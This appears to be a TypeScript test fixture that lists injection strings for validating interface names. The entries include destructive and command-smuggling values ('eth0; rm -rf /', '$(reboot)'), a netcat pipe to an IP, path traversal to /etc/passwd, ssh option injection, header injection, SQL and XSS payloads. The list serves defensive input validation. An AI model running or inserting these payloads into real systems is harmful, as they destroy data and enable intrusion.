/**
 * Strings that must never reach a process as they are: shell syntax, option injection, path
 * traversal, control characters, look-alikes and lengths beyond what the kernel accepts.
 */
export const INJECTION: readonly string[] = [
  'eth0; rm -rf /',
  'eth0 && id',
  '$(reboot)',
  '`id`',
  '| nc 198.18.0.1 9',
  '${IFS}id',
  '../../etc/passwd',
  'lo/../x',
  '-oProxyCommand=id',
  '--help',
  '-lo',
  '.lo',
  '..',
  'lo\n',
  'lo\r\nX-Injected: 1',
  'lo\u0000',
  '\u202elo',
  'ｌｏ',
  ' lo',
  'lo ',
  'lo:1',
  'eth0\tx',
  "lo' OR '1'='1",
  '<script>alert(1)</script>',
  '%0a',
  'a'.repeat(16),
  'x'.repeat(4096),
  '',
];
